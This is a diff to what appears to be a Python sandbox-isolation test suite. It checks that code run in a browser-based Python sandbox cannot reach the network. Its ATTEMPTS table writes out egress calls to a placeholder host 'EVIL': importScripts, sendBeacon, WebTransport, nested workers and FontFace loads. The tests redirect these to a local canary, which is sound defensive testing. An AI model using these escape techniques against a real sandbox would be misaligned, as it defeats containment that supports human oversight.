@@ -64,7 +64,7 @@ ATTEMPTS = {
     "importScripts": "js.importScripts('http://EVIL/script.js')",
     "sendBeacon": "assert js.navigator.sendBeacon('http://EVIL/beacon', 'x')",
     "WebTransport": "t = js.WebTransport.new('https://EVIL/wt')\nawait t.ready",
-    "nested worker": "js.Worker.new('http://EVIL/worker.js')\nraise OSError('a worker may be made, but loads nothing')",
+    "nested worker": "js.Worker.new('http://EVIL/worker.js')\nraise OSError('made, but loads nothing')",
     "FontFace": "await js.FontFace.new('f', 'url(http://EVIL/font)').load()",
     "RTCPeerConnection": "js.RTCPeerConnection.new()",
     "BroadcastChannel": "js.BroadcastChannel.new('x').postMessage('x')\nraise OSError('heard by nobody')",
@@ -103,7 +103,7 @@ def test_the_canary_hears_a_connection_that_is_made() -> None:
 def test_nothing_leaves(attempt: str, sandbox: Page, canary: Canary) -> None:
     code = ATTEMPTS[attempt].replace("EVILPORT", str(canary.port)).replace("EVIL", f"127.0.0.1:{canary.port}")
     asked: list[Request] = []
-    sandbox.on("request", asked.append)
+    sandbox.on("request", lambda request: asked.append(request))
     outcome = sandbox.evaluate("(code) => codeact_run({code})", f"import asyncio, js\n{code}\n'it worked'")
     threading.Event().wait(0.3)
     result = outcome.get("result") or {}
